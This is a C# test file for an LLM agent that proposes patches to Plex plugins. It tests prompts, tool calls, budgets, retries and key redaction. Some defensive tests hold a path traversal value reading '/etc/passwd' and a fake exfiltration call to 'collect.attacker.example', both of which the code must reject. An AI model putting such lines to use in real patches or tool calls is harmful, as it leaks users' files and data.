using System.Text.Json;
using System.Text.Json.Nodes;
using PlexImprove.Agent.Brains.Llm;
using PlexImprove.Agent.Diagnosis;
using PlexImprove.Agent.Hosting;
using PlexImprove.Core.Errors;

namespace PlexImprove.Agent.Tests.Llm;

public sealed class LlmBrainTests : IDisposable
{
    private readonly LlmTestBed _bed = new();

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Diagnose_FirstRequestHoldsDigestLessonsSchemaAndReadOnlyTools()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text(LlmTestBed.ValidAnswer()));
        var brain = _bed.CreateBrain(_bed.CreateKernel(server));

        var report = await brain.DiagnoseAsync(_bed.Request, Ct);

        var first = server.Requests[0];
        string messages = server.MessagesText(0);
        Assert.Contains("Lessons from earlier iterations", messages, StringComparison.Ordinal);
        Assert.Contains("Pace requests when a fix unblocks a site", messages, StringComparison.Ordinal);
        Assert.Contains(LlmTestBed.Agent, messages, StringComparison.Ordinal);
        Assert.Contains(_bed.Request.Digest.Split('\n')[0].Trim(), messages, StringComparison.Ordinal);
        Assert.Equal("json_schema", first["response_format"]!["type"]!.GetValue<string>());
        Assert.Equal(AnswerSchemas.DiagnosisName, first["response_format"]!["json_schema"]!["name"]!.GetValue<string>());
        var toolNames = first["tools"]!.AsArray().Select(t => t!["function"]!["name"]!.GetValue<string>()).ToList();
        Assert.Contains("plex-read_agent_file", toolNames);
        Assert.DoesNotContain(toolNames, n => n.EndsWith("apply_patch", StringComparison.Ordinal));
        Assert.Equal("llm:test-model", report.Brain);
        Assert.Equal("sample-headers", Assert.Single(report.Fixes).Id);
    }

    [Fact]
    public async Task Diagnose_ToolCallResultFlowsBackToTheModel_AndIsRecordedInTheTranscript()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-read_agent_file", $$"""{"path":"{{LlmTestBed.CodePath}}"}""")),
            FakeReply.Text(LlmTestBed.ValidAnswer()));
        var kernel = _bed.CreateKernel(server);

        var report = await _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct);

        Assert.Equal(2, server.Requests.Count);
        var toolMessage = server.Requests[1]["messages"]!.AsArray().Single(m => m!["role"]!.GetValue<string>() == "tool");
        Assert.Contains("HTML.ElementFromURL(url, timeout=20)", toolMessage!["content"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Single(report.Fixes);
        kernel.Dispose();
        var kinds = File.ReadAllLines(_bed.TranscriptPath).Select(l => JsonNode.Parse(l)!["kind"]!.GetValue<string>()).ToList();
        Assert.Equal(2, kinds.Count(k => k == "request"));
        Assert.Contains("tool_call", kinds);
        Assert.Contains("tool_result", kinds);
    }

    [Fact]
    public async Task Transcript_NeverHoldsTheApiKey()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text(LlmTestBed.ValidAnswer()));
        var kernel = _bed.CreateKernel(server);
        var request = new Brains.DiagnosisRequest
        {
            Aggregation = _bed.Request.Aggregation,
            Digest = _bed.Request.Digest + "\nkey seen in a log: " + LlmTestBed.ApiKey,
            PluginsDir = _bed.PluginsDir,
            LogsDir = _bed.LogsDir,
            Lessons = _bed.Request.Lessons,
        };

        await _bed.CreateBrain(kernel).DiagnoseAsync(request, Ct);
        kernel.Dispose();

        string transcript = File.ReadAllText(_bed.TranscriptPath);
        Assert.Contains("key seen in a log: <redacted>", transcript, StringComparison.Ordinal);
        Assert.DoesNotContain(LlmTestBed.ApiKey, transcript, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_InvalidJsonThenRepair_AcceptsTheRepairedAnswer()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Text("Here is my diagnosis: the site blocks us."),
            FakeReply.Text("```json\n" + LlmTestBed.ValidAnswer() + "\n```"));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Equal(2, server.Requests.Count);
        Assert.Contains("is not valid JSON", server.MessagesText(1), StringComparison.Ordinal);
        Assert.Single(report.Fixes);
        Assert.Contains(report.Notes, n => n.Contains("repair round", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Diagnose_InvalidTwice_FailsClearlyWithTheProblems()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text("{\"fixes\": 3}"), FakeReply.Text("not json either"));

        var e = await Assert.ThrowsAsync<LlmAnswerInvalidException>(() => _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct));

        Assert.Equal(FailureKind.WorkFailed, e.Kind);
        Assert.Contains("after one repair round", e.Message, StringComparison.Ordinal);
        Assert.Contains("llm_transcript.jsonl", e.Message, StringComparison.Ordinal);
        Assert.Equal(2, server.Requests.Count);
    }

    [Fact]
    public async Task Diagnose_UnknownTool_TheModelIsToldAndGoesOn()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-delete_everything", "{}")),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        var toolMessage = server.Requests[1]["messages"]!.AsArray().Single(m => m!["role"]!.GetValue<string>() == "tool");
        Assert.Contains("Error", toolMessage!["content"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Single(report.Fixes);
    }

    [Fact]
    public async Task Diagnose_HallucinatedPath_IsRefusedByConfinement_AndTheFixRejectedWithTheReason()
    {
        string outside = JsonSerializer.Serialize(new { path = "../../etc/passwd" });
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-read_agent_file", outside)),
            FakeReply.Text(LlmTestBed.ValidAnswer(file: "../Sample.bundle/Contents/Code/__init__.py")),
            FakeReply.Text(LlmTestBed.ValidAnswer(file: "Ghost.bundle/Contents/Code/__init__.py")));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        var toolMessage = server.Requests[1]["messages"]!.AsArray().Single(m => m!["role"]!.GetValue<string>() == "tool");
        Assert.Contains("contains '..'", toolMessage!["content"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Contains("contains '..'", server.MessagesText(2), StringComparison.Ordinal);
        Assert.Empty(report.Fixes);
        Assert.Contains(report.Notes, n => n.StartsWith("Rejected fix 'sample-headers'", StringComparison.Ordinal)
            && n.Contains("'Ghost.bundle/Contents/Code/__init__.py' does not exist", StringComparison.Ordinal));
        var rejected = Assert.Single(report.Rejected);
        Assert.Equal("sample-headers", rejected.Id);
        Assert.Contains("'Ghost.bundle/Contents/Code/__init__.py' does not exist", rejected.Reason, StringComparison.Ordinal);
        Assert.Contains("1 fix(es) offered but rejected:\n\n- `sample-headers`: ", DiagnosticReportWriter.ToMarkdown(report), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_NulInAPatchPath_RejectsTheFixWithTheReason_InsteadOfAStackTrace()
    {
        string withNul = "Sample.bundle/Contents/Code/__init__\0.py";
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Text(LlmTestBed.ValidAnswer(file: withNul)),
            FakeReply.Text(LlmTestBed.ValidAnswer(file: withNul)));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Empty(report.Fixes);
        Assert.Contains(report.Notes, n => n.StartsWith("Rejected fix 'sample-headers'", StringComparison.Ordinal)
            && n.Contains("control character", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Diagnose_FixAddingAHostTheAgentNeverUsed_IsRejectedAsNeedingApproval()
    {
        string exfiltrate = "HTML.ElementFromURL('https://collect.attacker.example/?k=' + String.Quote(url), timeout=20)";
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Text(LlmTestBed.ValidAnswer(@new: exfiltrate)),
            FakeReply.Text(LlmTestBed.ValidAnswer(@new: exfiltrate)));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Empty(report.Fixes);
        Assert.Contains(report.Notes, n => n.StartsWith("Rejected fix 'sample-headers'", StringComparison.Ordinal)
            && n.Contains("'collect.attacker.example'", StringComparison.Ordinal) && n.Contains("approval", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Diagnose_FixReachingTheSiteTheAgentAlreadyUses_IsKept()
    {
        string sameSite = "HTML.ElementFromURL(url.replace('http://', 'https://sample.example/'), timeout=20)";
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text(LlmTestBed.ValidAnswer(@new: sameSite)));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Single(report.Fixes);
    }

    [Fact]
    public async Task Diagnose_EditWhoseOldTextIsNotInTheFile_GetsARepairRound()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Text(LlmTestBed.ValidAnswer(old: "HTML.ElementFromURL(url)")),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Contains("does not occur in the file", server.MessagesText(1), StringComparison.Ordinal);
        Assert.Equal("HTML.ElementFromURL(url, timeout=20)", Assert.Single(report.Fixes).Patch!.Edits[0].Old);
    }

    [Fact]
    public async Task Diagnose_PatchThatDoesNotApply_PreviewToolSaysSoToTheModel()
    {
        string diff = "--- a/" + LlmTestBed.CodePath + "\n+++ b/" + LlmTestBed.CodePath + "\n@@ -6,2 +6,2 @@\n def fetch(url):\n-    return HTML.ElementFromURL(url, timeout=5)\n+    return HTML.ElementFromURL(url, timeout=60)\n";
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-preview_patch", JsonSerializer.Serialize(new { patch = diff }))),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        await _bed.CreateBrain(_bed.CreateKernel(server, withGate: true)).DiagnoseAsync(_bed.Request, Ct);

        string result = ToolResult(server, 1);
        Assert.StartsWith("Not applicable", result, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(_bed.WorkDir, "iteration_1", "implementation_log.json")));
    }

    [Fact]
    public async Task Diagnose_Python3SyntaxInAPatch_IsCaughtByTheGateThroughPreview()
    {
        string patch = Edit("    return HTML.ElementFromURL(url, timeout=20)", "    print(f'fetching {url}')\n    return HTML.ElementFromURL(url, timeout=20)");
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-preview_patch", JsonSerializer.Serialize(new { patch }))),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        await _bed.CreateBrain(_bed.CreateKernel(server, withGate: true)).DiagnoseAsync(_bed.Request, Ct);

        string result = ToolResult(server, 1);
        Assert.StartsWith("Not applicable: the gate found", result, StringComparison.Ordinal);
        Assert.Contains("syntax", result, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(LlmTestBed.AgentCode, File.ReadAllText(Path.Combine(_bed.PluginsDir, LlmTestBed.CodePath)));
    }

    [Fact]
    public async Task Diagnose_PatchBreakingALoaderRule_IsCaughtByTheGateThroughPreview()
    {
        string patch = Edit("    return HTML.ElementFromURL(url, timeout=20)", "    _page = HTML.ElementFromURL(url, timeout=20)\n    return _page");
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-preview_patch", JsonSerializer.Serialize(new { patch }))),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        await _bed.CreateBrain(_bed.CreateKernel(server, withGate: true)).DiagnoseAsync(_bed.Request, Ct);

        string result = ToolResult(server, 1);
        Assert.StartsWith("Not applicable: the gate found", result, StringComparison.Ordinal);
        Assert.Contains("_page", result, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_WriterToolIsNeverRun()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-apply_patch", """{"fix_id":"x","patch":"p"}""")),
            FakeReply.Text(LlmTestBed.ValidAnswer()));

        await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);

        Assert.Equal(0, _bed.ApplyPatchCalls);
        Assert.DoesNotContain("applied", ToolResult(server, 1), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_ToolRoundCap_EndsTheLoopAndAsksForTheAnswerWithoutTools()
    {
        string read = $$"""{"path":"{{LlmTestBed.CodePath}}"}""";
        await using var server = await FakeOpenAiServer.StartAsync(
            FakeReply.Tools(("plex-read_agent_file", read)),
            FakeReply.Tools(("plex-read_agent_file", read)),
            FakeReply.Tools(("plex-read_agent_file", read)),
            FakeReply.Text(LlmTestBed.ValidAnswer()));
        var kernel = _bed.CreateKernel(server, o => new AgentKernelOptions { Tools = o.Tools, TranscriptPath = o.TranscriptPath, MaxToolRounds = 2 });

        var report = await _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct);

        Assert.Equal(4, server.Requests.Count);
        Assert.Equal("none", server.Requests[3]["tool_choice"]!.GetValue<string>());
        Assert.Contains("limit of 2 tool rounds", server.MessagesText(3), StringComparison.Ordinal);
        Assert.Contains(report.Notes, n => n.Contains("Llm:MaxToolRounds", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Diagnose_BudgetSpent_StopsBeforeTheNextRequestNamingTheSetting()
    {
        await using var server = await FakeOpenAiServer.StartAsync(
            new FakeReply { ToolCalls = [("plex-read_agent_file", $$"""{"path":"{{LlmTestBed.CodePath}}"}""")], PromptTokens = 900, CompletionTokens = 200 },
            FakeReply.Text(LlmTestBed.ValidAnswer()));
        var kernel = _bed.CreateKernel(server, o => new AgentKernelOptions { Tools = o.Tools, TranscriptPath = o.TranscriptPath, LoggerFactory = o.LoggerFactory, MaxTokensPerPhase = 1000 });

        var e = await Assert.ThrowsAsync<TokenBudgetExceededException>(() => _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct));

        Assert.Single(server.Requests);
        Assert.Equal(FailureKind.WorkFailed, e.Kind);
        Assert.Contains("Llm:MaxTokensPerPhase", e.Message, StringComparison.Ordinal);
        Assert.Contains("1100 of 1000", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_EightyPercentOfTheBudget_LogsAWarning()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text(LlmTestBed.ValidAnswer(), promptTokens: 800, completionTokens: 50));
        var kernel = _bed.CreateKernel(server, o => new AgentKernelOptions { Tools = o.Tools, LoggerFactory = o.LoggerFactory, MaxTokensPerPhase = 1000 });

        await _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct);

        Assert.Contains(_bed.Warnings, w => w.Contains("850 of 1000", StringComparison.Ordinal));
        Assert.Equal(850, kernel.Budget.PhaseTokens);
    }

    [Fact]
    public async Task Diagnose_429WithRetryAfter_WaitsThatLongOnTheKernelsClock_ThenRetries()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Failure(429, retryAfterSeconds: "2"), FakeReply.Text(LlmTestBed.ValidAnswer()));
        var time = new WaitableFakeTime();
        var kernel = _bed.CreateKernel(server, o => new AgentKernelOptions { Tools = o.Tools, TranscriptPath = o.TranscriptPath, LoggerFactory = o.LoggerFactory, Time = time });

        var diagnosis = _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct);
        await time.WaitForTimerAsync(TimeSpan.FromSeconds(2));
        Assert.Single(server.Requests);
        time.Advance(TimeSpan.FromSeconds(2));
        var report = await diagnosis.WaitAsync(TimeSpan.FromSeconds(60), Ct);

        Assert.Equal(2, server.Requests.Count);
        Assert.Single(report.Fixes);
    }

    [Fact]
    public async Task Diagnose_ModelTooSlow_FailsNamingTheTimeoutSetting()
    {
        // The model never answers in time; every limit and back-off runs on the kernel's fake clock, which the test
        // moves past each wait once the wait has started.
        await using var server = await FakeOpenAiServer.StartAsync(
            new FakeReply { Content = "late", Delay = TimeSpan.FromMinutes(10) },
            new FakeReply { Content = "late", Delay = TimeSpan.FromMinutes(10) });
        var time = new WaitableFakeTime();
        var limit = TimeSpan.FromSeconds(1);
        var kernel = _bed.CreateKernel(server, o => new AgentKernelOptions { Tools = o.Tools, TranscriptPath = o.TranscriptPath, LoggerFactory = o.LoggerFactory, Time = time }, requestTimeout: limit, retries: 1);

        var diagnosis = _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct);
        await time.WaitForTimerAsync(limit);
        await Eventually.TrueAsync(() => server.Requests.Count == 1, "the first attempt reached the model");
        var started = time.TimersStarted.Count;
        time.Advance(limit);
        time.Advance(await time.WaitForTimerAfterAsync(started, "the back-off before the retry"));
        await Eventually.TrueAsync(() => server.Requests.Count == 2, "the retry reached the model");
        Assert.Equal(limit, await time.WaitForTimerAfterAsync(started + 1, "the retry's time limit"));
        time.Advance(limit);
        var e = await Assert.ThrowsAsync<LlmUnavailableException>(() => diagnosis.WaitAsync(TimeSpan.FromSeconds(60), Ct));

        Assert.Equal(FailureKind.WorkFailed, e.Kind);
        Assert.Contains("did not answer within 1 s, 2 times. Raise Llm:RequestTimeoutSeconds", e.Message, StringComparison.Ordinal);
        Assert.Equal(2, server.Requests.Count);
    }

    [Fact]
    public async Task Diagnose_KeyRejected_IsBadConfigurationNamingTheEndpointAndTheKey()
    {
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Failure(401));

        var e = await Assert.ThrowsAsync<LlmUnavailableException>(() => _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct));

        Assert.Equal(FailureKind.BadInput, e.Kind);
        Assert.Contains(server.Endpoint.ToString(), e.Message, StringComparison.Ordinal);
        Assert.Contains("OPENAI_API_KEY", e.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(LlmTestBed.ApiKey, e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Diagnose_EndpointUnreachable_IsBadConfigurationNamingTheEndpoint()
    {
        var server = await FakeOpenAiServer.StartAsync();
        var kernel = _bed.CreateKernel(server, retries: 1);
        await server.DisposeAsync();

        var e = await Assert.ThrowsAsync<LlmUnavailableException>(() => _bed.CreateBrain(kernel).DiagnoseAsync(_bed.Request, Ct));

        Assert.Equal(FailureKind.BadInput, e.Kind);
        Assert.Contains("cannot be reached", e.Message, StringComparison.Ordinal);
        Assert.Contains(server.Endpoint.ToString(), e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Reflect_ReturnsTheLessonOperationsAfterValidation()
    {
        const string answer = """{"operations":[{"op":"CONFIRM","ruleId":"diagnose-pace","evidence":{"iteration":1,"fixId":"sample-headers","delta":"http 429 per 100 sessions 0 → 0"}},{"op":"ADD","phase":"diagnose","polarity":"DO","text":"Check the search page layout before changing selectors.","evidence":{"delta":"IndexError 12 → 0"}}]}""";
        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text("""{"operations":[{"op":"CONFIRM","ruleId":"no-such-rule","evidence":{"delta":"x"}}]}"""), FakeReply.Text(answer));

        var operations = await _bed.CreateBrain(_bed.CreateKernel(server)).ReflectAsync(
            new Reflection.ReflectionRequest { Iteration = 1, Outcomes = [], Lessons = _bed.Request.Lessons }, Ct);

        Assert.Contains("no-such-rule", server.MessagesText(1), StringComparison.Ordinal);
        Assert.Equal([PlexImprove.Agent.Lessons.LessonOperationKind.Confirm, PlexImprove.Agent.Lessons.LessonOperationKind.Add], operations.Select(o => o.Kind));
        Assert.Equal(AnswerSchemas.ReflectionName, server.Requests[0]["response_format"]!["json_schema"]!["name"]!.GetValue<string>());
    }

    public void Dispose() => _bed.Dispose();

    private static string ToolResult(FakeOpenAiServer server, int request) =>
        server.Requests[request]["messages"]!.AsArray().Last(m => m!["role"]!.GetValue<string>() == "tool")!["content"]!.GetValue<string>();

    private static string Edit(string old, string @new) =>
        $"{LlmTestBed.CodePath}\n<<<<<<< SEARCH\n{old}\n=======\n{@new}\n>>>>>>> REPLACE\n";
}
